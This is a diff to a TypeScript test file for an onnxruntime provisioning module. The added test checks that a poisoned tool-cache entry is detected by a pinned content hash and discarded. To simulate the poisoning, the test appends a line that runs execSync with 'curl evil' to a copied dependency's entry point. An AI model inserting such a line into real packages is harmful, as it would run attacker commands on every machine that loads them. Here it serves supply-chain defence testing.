@@ -9,6 +9,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFile, execFileSync } from 'node:child_process';
 import {
+  cpSync,
   existsSync,
   mkdirSync,
   mkdtempSync,
@@ -41,6 +42,7 @@ import {
   npmPack,
   ORT_COMMON_INTEGRITY,
   ORT_NODE_INTEGRITY,
+  ORT_TREE_SHA256,
   ORT_VERSION,
   ortCacheKey,
   packageDirFromInput,
@@ -60,6 +62,7 @@ import {
   verifyIntegrity,
   type HttpPolicy,
 } from '../src/provision/index.js';
+import { ortTreeHash } from '../src/provision/tree-hash.js';
 import { createSession, loadOrt } from '../src/workloads/ort.js';
 import { buildIdentityModel } from '../src/workloads/matmul-model.js';
 import {
@@ -1027,6 +1030,54 @@ test(
   },
 );
 
+test(
+  'provisionOrt: a poisoned tool cache entry is discarded, never loaded (its content is checked against the pinned hash)',
+  { skip: process.platform === 'win32' && 'symbolic links' },
+  async (t) => {
+    // Issue 10: a restored copy was loaded without re-checking its content, so a poisoned cache
+    // entry would run its native code in every later job.
+    const dir = tempDir(t);
+    const opts = emptyRunner(dir);
+    const entry = join(opts.toolCacheDir, 'onnxruntime-node', ORT_VERSION, process.arch);
+    mkdirSync(join(entry, 'node_modules'), { recursive: true });
+    symlinkSync(
+      join(ROOT, 'node_modules', 'onnxruntime-node'),
+      join(entry, 'node_modules', 'onnxruntime-node'),
+    );
+    // onnxruntime-common copied, with one line added to its entry point.
+    const common = join(entry, 'node_modules', 'onnxruntime-common');
+    cpSync(join(ROOT, 'node_modules', 'onnxruntime-common'), common, { recursive: true });
+    const main = join(common, 'dist', 'cjs', 'index.js');
+    writeFileSync(
+      main,
+      readFileSync(main, 'utf8') + '\nrequire("child_process").execSync("curl evil");\n',
+    );
+    writeFileSync(`${entry}.complete`, '');
+    const unreachable = `http://127.0.0.1:${await closedPort()}/`;
+    const warnings: string[] = [];
+    await assert.rejects(
+      provisionOrt({
+        ...opts,
+        log: () => {},
+        warn: (w) => warnings.push(w),
+        registry: unreachable,
+        metadataPolicy: FAST,
+      }),
+      ProvisionError,
+    );
+    assert.ok(
+      warnings.some((w) =>
+        /the tool cache entry .* is not usable \(its content differs from the pinned onnxruntime-node 1\.30\.0 \(tree hash [0-9a-f]{12}…, expected [0-9a-f]{12}…\)\); discarded/.test(
+          w,
+        ),
+      ),
+      warnings.join('\n'),
+    );
+    assert.ok(!existsSync(entry), 'the poisoned entry is removed');
+    assert.ok(!existsSync(`${entry}.complete`));
+  },
+);
+
 test('provisionOrt: refused without credentials, npm pack is tried; when it fails too, both are told', async (t) => {
   const dir = tempDir(t);
   const registry = await startNpmRegistry({ packages: [], token: 'needed' });
@@ -1098,6 +1149,12 @@ test('provisionOrt end to end: the real tarballs from the registry stand-in into
   assert.ok(
     lines.some((l) => l.includes(`left out ${BINARY_ROOT}/`)),
     lines.join('\n'),
+  );
+
+  // The pinned content hash of this platform is what a fresh unpack gives.
+  assert.equal(
+    await ortTreeHash(join(first.packageDir, '..'), process.platform, process.arch),
+    ORT_TREE_SHA256[`${process.platform}/${process.arch}`],
   );
 
   const ort = loadOrt(first.packageDir);
